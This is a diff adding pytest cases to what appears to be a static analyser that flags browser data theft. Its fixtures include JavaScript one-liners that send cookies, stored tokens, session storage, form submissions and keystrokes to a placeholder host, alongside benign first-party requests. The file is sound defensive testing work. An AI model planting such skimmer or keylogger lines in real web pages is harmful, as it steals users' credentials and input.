@@ -535,3 +535,63 @@ def test_a_wrapper_that_does_not_copy_requests_out_is_no_exfiltration(code: str)
     from airlock.analysis.dataflow.judge import is_exfiltration
 
     assert not [f for f in flows_of(code).flows if is_exfiltration(f)]
+
+
+@pytest.mark.parametrize(
+    ("code", "what"),
+    [
+        (
+            "fetch('https://c.example.invalid/c', { method: 'POST', body: document.cookie });",
+            "document.cookie",
+        ),
+        (
+            "navigator.sendBeacon('https://c.example.invalid/b', localStorage.getItem('token'));",
+            "localStorage",
+        ),
+        (
+            "fetch('https://c.example.invalid/s', { method: 'POST', body: JSON.stringify(window.sessionStorage) });",
+            "sessionStorage",
+        ),
+        (
+            "document.addEventListener('submit', (e) => { fetch('https://c.example.invalid/f', { method: 'POST', body: new FormData(e.target) }); }, true);",
+            "form contents",
+        ),
+        (
+            "document.addEventListener('keydown', (e) => { fetch('https://c.example.invalid/k?k=' + e.key); });",
+            "keystrokes",
+        ),
+        (
+            "window.onkeypress = function (e) { navigator.sendBeacon('https://c.example.invalid/k', e.key); };",
+            "keystrokes",
+        ),
+    ],
+    ids=["cookie", "storage-item", "whole-session-storage", "form-submit", "keydown", "onkeypress"],
+)
+def test_page_secrets_sent_to_a_constant_host(code: str, what: str) -> None:
+    from airlock.analysis.dataflow.judge import is_browser_theft
+
+    (flow,) = [f for f in flows_of(code).flows if is_browser_theft(f)]
+    assert flow.source.kind is Kind.BROWSER and flow.source.detail == what
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "fetch('/api/session', { headers: { cookie: document.cookie } });",
+        "fetch(process.env.API_URL, { headers: { authorization: localStorage.getItem('token') } });",
+        "document.cookie = 'seen=1';\nfetch('https://cdn.example.com/app.css');",
+        "document.addEventListener('click', (e) => fetch('https://c.example.com/track?x=' + e.clientX));",
+        "const theme = localStorage.getItem('theme');\ndocument.body.className = theme;",
+    ],
+    ids=[
+        "first-party-relative",
+        "configured-endpoint",
+        "cookie-written-not-read",
+        "click-is-not-a-key",
+        "no-request",
+    ],
+)
+def test_page_data_that_stays_first_party(code: str) -> None:
+    from airlock.analysis.dataflow.judge import is_browser_theft
+
+    assert not [f for f in flows_of(code).flows if is_browser_theft(f)]
